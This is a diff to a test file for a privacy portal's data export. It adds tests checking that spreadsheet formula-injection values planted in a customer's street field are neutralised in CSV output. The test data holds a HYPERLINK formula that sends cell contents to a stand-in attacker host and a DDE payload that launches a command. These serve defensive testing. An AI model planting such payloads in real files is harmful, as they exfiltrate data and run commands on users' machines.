@@ -32,7 +32,7 @@ from portal.categories import KIND_TABLES, get_registry
 from portal.config import get_settings
 from portal.db import get_engine, session_scope
 from portal.exports import writers
-from portal.exports.csv_safe import neutralise
+from portal.exports.csv_safe import SafeWriter, neutralise
 from portal.models import ExportPackage, Feedback, PrivacyRequest, RequestStatus
 from portal.models.types import utcnow
 from portal.queue.handlers import register_all
@@ -40,9 +40,11 @@ from portal.queue.worker import Worker
 from portal.services import exports, tokens
 from portal.services.exports import ExportError
 from portal.services.principal import Principal
+from portal.services.rectification import apply_rectification
 from portal.services.tokens import TokenError
 from tests.utils.environment import reconfigure
 from tests.utils.principals import ADA, GRACE, LINUS, principal_for
+from tests.utils.queue import customer
 
 REPO_ROOT = Path(__file__).resolve().parent.parent.parent
 SCHEMA_PATH = REPO_ROOT / "docs" / "export-schema.json"
@@ -677,3 +679,32 @@ def test_bug_lease_is_extended_only_while_the_first_format_is_written(
     monkeypatch.setattr(Worker, "heartbeat", heartbeat)
     _build(principal_for(ADA))
     assert {"json", "csv", "html"} <= extended, f"the lease was extended only while writing {sorted(extended)}"
+
+
+# --- CSV injection (OWASP) ---------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("planted", FORMULAS)
+def test_formulas_planted_in_a_record_reach_the_csv_neutralised(portal_env: Path, planted: str) -> None:
+    """An address typed as a formula (or planted by an agent under a "help" grant) must not run in a spreadsheet:
+    the CSV cell starts with an apostrophe; the JSON keeps the value exactly."""
+    with session_scope() as session:
+        apply_rectification(session, customer_id=ADA, changes={"street": planted}, actor=customer(ADA),
+                            request_id=None)
+    request_id = _build(principal_for(ADA))
+    files = _files(_download(principal_for(ADA), request_id))
+    _, rows = _csv_rows(files["csv/identity/identity_profile.csv"])
+    assert rows[0]["street"] == "'" + planted
+    data = json.loads(files["data.json"])
+    assert data["categories"]["identity"]["records"]["identity_profile"][0]["street"] == planted
+
+
+def test_safe_writer_leaves_plain_text_and_numbers_alone() -> None:
+    buffer = io.StringIO()
+    writer = SafeWriter(buffer)
+    writer.writerow(["London", -5, 3.5, None, "a=b", "=1", "@x"])
+    writer.writerows([["+44 20", "-"], ["ok", "\tx"]])
+    assert buffer.getvalue().splitlines() == ["London,-5,3.5,,a=b,'=1,'@x", "'+44 20,'-", "ok,'\tx"]
